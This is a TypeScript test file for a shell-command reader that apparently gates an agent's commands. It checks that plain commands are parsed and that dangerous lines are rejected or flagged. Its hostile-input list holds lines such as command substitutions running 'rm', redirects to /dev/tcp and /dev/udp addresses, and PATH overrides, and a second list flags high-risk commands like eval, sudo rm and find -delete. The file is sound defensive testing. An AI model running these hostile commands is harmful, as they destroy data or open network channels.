import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { commandCovered } from '../gate/command-operand.ts';
import { loadShellReader, type ShellReader } from './read-line.ts';
import { renderLine } from './shell-line.ts';

let read: ShellReader = () => ({ understood: false, why: 'the reader is not loaded' });
beforeAll(async () => {
  read = await loadShellReader();
});

/** Commands, redirects and the line as it would run, with every file below `/ws`. */
const seen = (line: string) => {
  const found = read(line);
  if (!found.understood) return found.why;
  return {
    argvs: found.commands.map(({ argv }) => argv),
    files: found.redirects.map(({ target, access }) => `${access} ${target}`),
    runs: renderLine(
      found,
      found.redirects.map(({ target }) => `/ws/${target}`),
    ),
  };
};

describe('given a line of plain commands', () => {
  it.each([
    ['cat a.txt', [['cat', 'a.txt']], [], "'cat' 'a.txt'"],
    ["echo \"it's\" 'a b'c", [['echo', "it's", 'a bc']], [], String.raw`'echo' 'it'\''s' 'a bc'`],
    [
      'a | b |& c && d || e; f\ng',
      [['a'], ['b'], ['c'], ['d'], ['e'], ['f'], ['g']],
      [],
      "'a' | 'b' |& 'c' && 'd' || 'e' ; 'f' ; 'g'",
    ],
    ['(a; b) | { c; d; }', [['a'], ['b'], ['c'], ['d']], [], "( 'a' ; 'b' ) | { 'c' ; 'd' ; }"],
    ['> out cat', [['cat']], ['write out'], "'cat' > '/ws/out'"],
    [
      'cat <in >>out 2>&1 >|"c d"',
      [['cat']],
      ['read in', 'write out', 'write c d'],
      "'cat' < '/ws/in' >> '/ws/out' 2>&1 >| '/ws/c d'",
    ],
    ['cat &>all', [['cat']], ['write all'], "'cat' &> '/ws/all'"],
    ['cat 2>/dev/null', [['cat']], [], "'cat' 2> /dev/null"],
    ['a#b # what is said', [['a#b']], [], "'a#b'"],
    ['echo \\\n x', [['echo', 'x']], [], "'echo' 'x'"],
    ["echo '' --a=b 'HEAD~1'", [['echo', '', '--a=b', 'HEAD~1']], [], "'echo' '' '--a=b' 'HEAD~1'"],
    ['лс \u00a0x', [['лс', '\u00a0x']], [], "'лс' '\u00a0x'"],
    ["'if' x", [['if', 'x']], [], "'if' 'x'"],
  ])('reads %j', (line, argvs, files, runs) => {
    expect(seen(line)).toEqual({ argvs, files, runs });
  });
});

const hostile: readonly string[] = [
  '',
  '# nothing',
  'echo $(rm x)',
  'echo `rm x`',
  'echo "$(rm x)"',
  'echo "${x:$(rm x):1}"',
  'echo ${x}',
  'echo $x',
  'echo $((a[$(rm x)]))',
  'echo <(rm x)',
  'cat >(rm x)',
  'rm x &',
  'echo a & rm x',
  'coproc rm x',
  'time rm x',
  '! rm x',
  'if true; then rm x; fi',
  'while true; do rm x; done',
  'for i in a; do rm x; done',
  'case a in a) rm x;; esac',
  'f() { rm x; }; f',
  'function f { rm x; }',
  '[[ -v a[$(rm\u0020x)] ]]',
  '(( a[$(rm x)] ))',
  'let "a[$(rm x)]"',
  'declare x=1',
  'export PATH=.',
  'PATH=. ls',
  'x=$(rm x)',
  'x=(a b)',
  'cat <<E\n$(rm x)\nE',
  'cat <<< x',
  'ls *',
  'ls ?',
  'ls [a]',
  'ls {a,b}',
  'ls ~/x',
  'l\\s',
  "l$'\\x73'",
  'ls $"x"',
  'ls @(a|b)',
  'cat <>x',
  'cat 3>x',
  'cat >&3',
  'cat <&3',
  'cat >/dev/tcp/10.0.0.1/80',
  'cat <//dev/udp/10.0.0.1/80',
  'cat >""',
  '> x',
  "'' x",
  '"$x" y',
  'cd sub; cat >x',
  'ls !!',
  'ls ^a^b',
  'ls "a',
  "ls 'a",
  'ls |',
  '| ls',
  'ls;;ls',
  '()',
  'ls\u0000rm',
  'ls\rrm',
  'ls\u001b[2J',
  'ls \ud800',
  `${'('.repeat(40)}ls${')'.repeat(40)}`,
  Array.from({ length: 80 }, () => 'ls').join(';'),
  `ls ${'x'.repeat(9000)}`,
];

describe('given a line that is more than plain commands', () => {
  it.each(hostile.map((line) => [line]))('does not understand %j', (line) => {
    expect(read(line).understood).toBe(false);
  });
});

describe('given a command that runs programs or takes code', () => {
  it.each([
    'eval x',
    'source x',
    '. x',
    'exec x',
    'trap x EXIT',
    'command rm',
    'builtin eval',
    'sh -c x',
    'bash x',
    'env rm',
    'xargs rm',
    'sudo rm',
    'nohup rm',
    'timeout 1 rm',
    'watch rm',
    'parallel rm',
    'nice rm',
    'awk x',
    'python3.11 -c x',
    'python x',
    'perl -e x',
    'node x',
    'ssh h rm',
    'make',
    'npm test',
    'find . -exec rm x',
    'find . -delete',
    'tar -cf a --to-command=x b',
    'tar -xIsh a',
    'git -c alias.x=y x',
    'git commit',
    'git --exec-path=x log',
    'git diff --ext-diff',
    'git x',
    'sed s/a/b/e x',
    'rg --pre=x y',
    'sort --compress-program=x y',
    './x',
    '/bin/ls',
    'a/b',
    'test -v x',
    'printf -v x y',
    'kill 1',
    'vim x',
    'less x',
    'busybox ls',
  ])('marks %j', (line) => {
    const found = read(line);
    expect(found.understood && found.commands.map(({ highRisk }) => highRisk)).toEqual([true]);
    expect(found.why).not.toBeNull();
  });

  it.each([
    'ls',
    'cat x',
    'grep -r x .',
    'git status',
    'git log -3',
    'find . -name x',
    'tar -tf x',
    'sort x',
    'sed --sandbox s/a/b/ x',
  ])('does not mark %j', (line) => {
    const found = read(line);
    expect(found.understood && found.commands.map(({ highRisk }) => highRisk)).toEqual([false]);
    expect(found.why).toBeNull();
  });
});

const pieces = fc.constantFrom(
  ...hostile.filter((line) => line.length < 100),
  ...'ls cat rm git status -la ; && || | |& & > >> < 2>&1 ( ) { } $( ) ` " \' \\ \n \t # = * ~ $ ! é \u200b \u00a0 if then fi time'.split(
    ' ',
  ),
  ' ',
);

describe('given any line at all', () => {
  it('never throws, and what it understands comes out the same when the line it would run is read again', () => {
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 12 }).map((parts) => parts.join(' ')),
        (line) => {
          const first = read(line);
          if (!first.understood) return;
          const targets = first.redirects.map(({ target }) => target);
          const again = read(renderLine(first, targets));
          expect(again).toMatchObject({ understood: true, redirects: first.redirects });
          expect(again.understood && again.commands).toEqual(first.commands);
          expect(again.understood && renderLine(again, targets)).toBe(renderLine(first, targets));
        },
      ),
      { numRuns: 400 },
    );
  });

  it('holds no command beside those that are listed: a line made of allowed words alone is covered, and every other has one that is not', () => {
    const allowed = [['ls', 'git status']];
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom('ls', 'git status', 'rm', 'git log', 'lsx', "'ls '", '"git" "status"'),
          {
            minLength: 1,
            maxLength: 6,
          },
        ),
        fc.constantFrom(' ; ', ' && ', ' | ', '\n', ' || '),
        (commands, join) => {
          const found = read(commands.join(join));
          const plain = (text: string) =>
            text === 'ls' || text === 'git status' || text === '"git" "status"';
          expect(
            found.understood && found.commands.every(({ argv }) => commandCovered(allowed, argv)),
          ).toBe(commands.every(plain));
        },
      ),
      { numRuns: 300 },
    );
  });
});
